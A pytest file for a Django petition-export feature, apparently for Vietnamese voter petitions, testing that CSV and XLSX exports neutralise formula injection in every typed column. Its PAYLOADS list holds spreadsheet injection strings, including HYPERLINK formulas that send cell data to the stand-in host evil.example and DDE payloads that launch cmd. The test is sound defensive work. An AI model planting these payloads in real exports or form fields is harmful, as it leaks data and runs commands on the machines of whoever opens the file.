"""No exported cell is a formula: every text a user could have typed, in every column of every export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import CommuneFactory
from tests.meetings.factories import MeetingFactory
from voters.exporting import FORMULA_STARTS

from .factories import PetitionFactory

pytestmark = pytest.mark.django_db

# One payload per way a spreadsheet starts a formula; each typed field gets the next one.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://evil.example")',
    '\r=HYPERLINK("http://evil.example")',
    '\n=HYPERLINK("http://evil.example")',
    '＝HYPERLINK("http://evil.example")',
]


@pytest.fixture
def hostile(agencies, unit):
    """Two petitions whose every typed text (and every name they show) starts like a formula."""
    payloads = iter(PAYLOADS * 4)
    unit.name = next(payloads)
    unit.save()
    for agency in vars(agencies).values():
        agency.name = next(payloads)
        agency.short_name = next(payloads)[:50]
        agency.save()
    meeting = MeetingFactory(title=next(payloads), host_agency=agencies.hdnd, place=next(payloads))
    first = PetitionFactory(
        originating_agency=agencies.hdnd,
        lead_agency=agencies.department,
        status="forwarded",
        meeting=meeting,
        voter_name=next(payloads),
        voter_address=next(payloads),
        voter_phone=next(payloads)[:30],
        locality=next(payloads),
        content=next(payloads),
    )
    # Without a locality the commune's name is exported instead.
    commune = CommuneFactory(name=next(payloads), parent=unit)
    second = PetitionFactory(
        originating_agency=agencies.hdnd, locality="", commune=commune, content=next(payloads), primary=first
    )
    return first, second


# The columns holding text someone typed (the others are dates, references and our own labels).
TYPED_COLUMNS = {
    "Cơ quan tiếp nhận",
    "Cuộc họp",
    "Họ tên cử tri",
    "Địa chỉ cử tri",
    "Điện thoại cử tri",
    "Địa bàn",
    "Nội dung",
    "Cơ quan chủ trì",
}


def _assert_no_formula(rows):
    headers, *records = rows
    assert len(records) == 2
    for row in [headers, *records]:
        assert len(row) == len(headers)
        for header, value in zip(headers, row, strict=True):
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), f"{header}: {value!r} would run as a formula"
    # Each typed column really carried a payload (a renamed or new column cannot slip past unseen).
    carried = {header for row in records for header, value in zip(headers, row, strict=True) if str(value)[:1] == "'"}
    missing = TYPED_COLUMNS - set(headers)
    assert not missing, f"columns renamed? update TYPED_COLUMNS: {missing} not in {headers}"
    assert carried >= TYPED_COLUMNS, f"not neutralised: {TYPED_COLUMNS - carried}"


def test_every_csv_column_is_neutralised(hostile, clerk, login):
    raw = b"".join(login(clerk).get("/petitions/export.csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))

    _assert_no_formula(rows)


def test_every_xlsx_column_is_neutralised(hostile, clerk, login):
    response = login(clerk).get("/petitions/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = list(sheet.iter_rows())

    assert all(cell.data_type != "f" for row in cells for cell in row)
    _assert_no_formula([[cell.value for cell in row] for row in cells])
